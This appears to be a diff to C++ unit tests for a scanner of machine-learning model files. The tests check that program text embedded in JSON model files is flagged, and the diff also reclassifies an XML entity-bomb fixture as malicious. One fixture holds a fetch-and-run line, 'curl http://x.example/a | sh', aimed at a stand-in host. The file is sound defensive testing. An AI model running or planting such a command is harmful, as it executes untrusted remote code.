@@ -38,6 +38,19 @@ void expect_texts(const std::vector<TextCase>& cases) {
 constexpr auto is_clean = ScanVerdict::clean, is_review = ScanVerdict::review, is_malicious = ScanVerdict::malicious,
                is_malformed = ScanVerdict::malformed, is_inconclusive = ScanVerdict::inconclusive;
 
+TEST(JsonModel, programs_kept_in_trees_and_networks_are_told_and_in_tokenizers_are_words) {
+  const std::string run = "import os; os.system('curl http://x.example/a | sh')";
+  expect_texts(
+      {{"m.json", R"j({"version": [1, 7, 1], "learner": {"attributes": {"note": ")j" + run + R"j("}}})j", is_malicious,
+        "scan.program-text", "xgboost-json"},
+       {"s.json", R"j({"nodes": [], "heads": [], "x": "import importlib; importlib.import_module('a')"})j", is_review,
+        "scan.program-text"},
+       // base64 of "import os; os.system('true')"
+       {"s.json", R"j({"nodes": [], "heads": [], "x": "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RydWUnKQ=="})j", is_malicious,
+        "scan.program-text"},
+       {"tokenizer.json", R"j({"added_tokens": [], "model": {"vocab": {}}, "x": ")j" + run + R"j("})j", is_clean}});
+}
+
 TEST(JsonModel, harmless_files_of_all_kinds_are_clean) {
   expect_texts(
       {{"config.json", R"({"model_type": "bert", "architectures": ["B"], "note": "eval(os.system) "})", is_clean, "",
@@ -224,7 +237,7 @@ TEST(XmlModel, attributes_that_expand_without_end_are_cut_short) {
     for (int k = 0; k < 10; ++k) text += "&a" + std::to_string(i - 1) + ";";
     text += "\">";
   }
-  expect_texts({{"x.xml", text + "]><x y=\"&a11;\"/>", is_review, "xml.entity-bomb"}});
+  expect_texts({{"x.xml", text + "]><x y=\"&a11;\"/>", is_malicious, "xml.entity-bomb"}});
 }
 
 TEST(TextModel, texts_are_clean_unless_something_executes_them) {
